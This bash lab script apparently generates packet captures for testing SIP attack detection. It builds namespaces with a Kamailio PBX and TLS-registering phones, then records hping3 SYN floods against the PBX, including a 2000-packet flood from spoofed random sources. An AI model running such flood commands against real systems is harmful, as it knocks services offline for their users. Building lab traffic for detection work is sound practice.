#!/usr/bin/env bash
# TCP SYN floods against the PBX's SIP ports, with hping3, beside ordinary SIP-over-TLS registrations:
#   - 1001 (ph1 10.77.0.11) and 1002 (ph2 10.77.0.12) register over TLS to kamailio 10.77.0.1:5061 (complete
#     handshakes, 401 then 200);
#   - the attacker 10.77.0.66 sends 2000 SYNs at 500/s to 10.77.0.1:5061 from random spoofed sources
#     (`hping3 --rand-source`): the PBX has no route back to them, so no handshake completes;
#   - then 1000 SYNs at 500/s from its own address to 10.77.0.1:5060, where nothing listens on TCP: each is
#     answered by a RST.
set -euo pipefail
# shellcheck source=../lab.sh
. "$(dirname "$0")/../lab.sh"
trap lab_down EXIT
NAME=syn-flood

lab_up
lab_kamailio pbx.lab.callguard
lab_record_start "$LAB_TMP/cap.pcap"
in_ns ph1 /usr/bin/python3 "$LAB_DIR/sip_tls.py" reg 1001 tiger42 10.77.0.11
in_ns ph2 /usr/bin/python3 "$LAB_DIR/sip_tls.py" reg 1002 orchid77 10.77.0.12
in_ns att hping3 -q -S -p 5061 -i u2000 -c 2000 --rand-source 10.77.0.1 >&2 || true
sleep 1
in_ns att hping3 -q -S -p 5060 -i u2000 -c 1000 10.77.0.1 >&2 || true
sleep 1
in_ns ph1 /usr/bin/python3 "$LAB_DIR/sip_tls.py" reg 1001 tiger42 10.77.0.11
lab_record_stop
lab_save "$LAB_TMP/cap.pcap" "$NAME"
